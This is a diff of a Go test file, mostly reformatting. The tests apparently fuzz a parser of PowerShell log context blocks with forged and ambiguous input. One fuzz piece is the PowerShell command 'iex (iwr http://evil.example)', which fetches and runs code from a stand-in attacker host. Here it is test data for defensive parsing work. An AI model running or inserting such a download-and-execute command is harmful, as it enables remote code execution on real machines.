@@ -33,10 +33,42 @@ func contextText(l *Layout, names []string, values map[string]string) string {
 }
 
 var moduleNames = map[string][]string{
-	"English": {"Severity", "Host Name", "Host Version", "Host ID", "Host Application", "Engine Version", "Runspace ID", "Pipeline ID",
-		"Command Name", "Command Type", "Script Name", "Command Path", "Sequence Number", "User", "Connected User", "Shell ID"},
-	"Spanish": {"Gravedad", "Nombre de host", "Versión de host", "Id. de host", "Aplicación host", "Versión del motor", "Id. de espacio de ejecución", "Id. de canalización",
-		"Nombre de comando", "Tipo de comando", "Nombre de script", "Ruta de acceso de comando", "Número de secuencia", "Usuario", "Usuario conectado", "Id. de shell"},
+	"English": {
+		"Severity",
+		"Host Name",
+		"Host Version",
+		"Host ID",
+		"Host Application",
+		"Engine Version",
+		"Runspace ID",
+		"Pipeline ID",
+		"Command Name",
+		"Command Type",
+		"Script Name",
+		"Command Path",
+		"Sequence Number",
+		"User",
+		"Connected User",
+		"Shell ID",
+	},
+	"Spanish": {
+		"Gravedad",
+		"Nombre de host",
+		"Versión de host",
+		"Id. de host",
+		"Aplicación host",
+		"Versión del motor",
+		"Id. de espacio de ejecución",
+		"Id. de canalización",
+		"Nombre de comando",
+		"Tipo de comando",
+		"Nombre de script",
+		"Ruta de acceso de comando",
+		"Número de secuencia",
+		"Usuario",
+		"Usuario conectado",
+		"Id. de shell",
+	},
 	"Japanese": {"重要度", "ホスト名", "ホストのバージョン", "ホスト ID", "ホスト アプリケーション", "エンジンのバージョン", "実行空間 ID", "パイプライン ID",
 		"コマンド名", "コマンドの種類", "スクリプト名", "コマンド パス", "シーケンス番号", "ユーザー", "接続されたユーザー", "シェル ID"},
 }
@@ -103,7 +135,20 @@ func ambiguousKeys(b *Block) []string { return slices.Collect(b.Ambiguous()) }
 // drawForged draws a text that somebody made who knows the block: line breaks of all kinds, lines
 // like its own, whole blocks.
 func drawForged(t *rapid.T, l *Layout, names []string, label string) string {
-	pieces := []string{"\r\n", "\n", "\r", "\t", "\u2028", "\v", " ", "=", "}", "iex (iwr http://evil.example)", "        ", "\x85"}
+	pieces := []string{
+		"\r\n",
+		"\n",
+		"\r",
+		"\t",
+		"\u2028",
+		"\v",
+		" ",
+		"=",
+		"}",
+		"iex (iwr http://evil.example)",
+		"        ",
+		"\x85",
+	}
 	for i := range l.keys {
 		pieces = append(pieces, "\r\n\t"+names[i]+"=forged", "\r\n        "+names[i]+" = forged", names[i]+" = 1\n")
 	}
@@ -128,7 +173,15 @@ func TestTheCommandLineOfAHostForgesNothingAndHidesNothing(t *testing.T) {
 					var b Block
 					b.Read(c.layout, []byte(text), []byte(values["CommandLine"]))
 					got := blockValues(&b)
-					got["HostApplication"], values["HostApplication"] = strings.ReplaceAll(got["HostApplication"], "\r\n", "\n"), strings.ReplaceAll(values["HostApplication"], "\r\n", "\n")
+					got["HostApplication"], values["HostApplication"] = strings.ReplaceAll(
+						got["HostApplication"],
+						"\r\n",
+						"\n",
+					), strings.ReplaceAll(
+						values["HostApplication"],
+						"\r\n",
+						"\n",
+					)
 					if !maps.Equal(got, values) {
 						t.Fatalf("%q\nis read as %q\nwant %q", text, got, values)
 					}
@@ -153,7 +206,13 @@ func TestWhatIsReadWronglyIsSaidToBeAmbiguous(t *testing.T) {
 			got := blockValues(&b)
 			for key, want := range values {
 				if got[key] != want && !slices.Contains(ambiguousKeys(&b), key) {
-					t.Fatalf("%s is read as %q, not %q, and nothing says that there is another reading (%q)", key, got[key], want, ambiguousKeys(&b))
+					t.Fatalf(
+						"%s is read as %q, not %q, and nothing says that there is another reading (%q)",
+						key,
+						got[key],
+						want,
+						ambiguousKeys(&b),
+					)
 				}
 			}
 		}))
@@ -213,7 +272,9 @@ func naiveReadings(l *Layout, text string, how reading) [][]int {
 		}
 		for _, c := range lines {
 			switch {
-			case c.key != wanted[i] || c.n < after, i == 0 && c.n != 0, i > 0 && !l.keys[wanted[i-1]].free && c.n != after:
+			case c.key != wanted[i] || c.n < after,
+				i == 0 && c.n != 0,
+				i > 0 && !l.keys[wanted[i-1]].free && c.n != after:
 				continue
 			}
 			try(append(path, c.n), i+1, c.n+1)
@@ -280,7 +341,14 @@ func TestReadingsAreThoseOfANaiveReader(t *testing.T) {
 				return
 			}
 			if !slices.Equal(got, want[0]) || (b.ambiguous != 0) != (len(want) > 1) {
-				t.Fatalf("%q: lines %v, ambiguous %q; want %v of %d readings", text, got, ambiguousKeys(&b), want[0], len(want))
+				t.Fatalf(
+					"%q: lines %v, ambiguous %q; want %v of %d readings",
+					text,
+					got,
+					ambiguousKeys(&b),
+					want[0],
+					len(want),
+				)
 			}
 		})
 	}
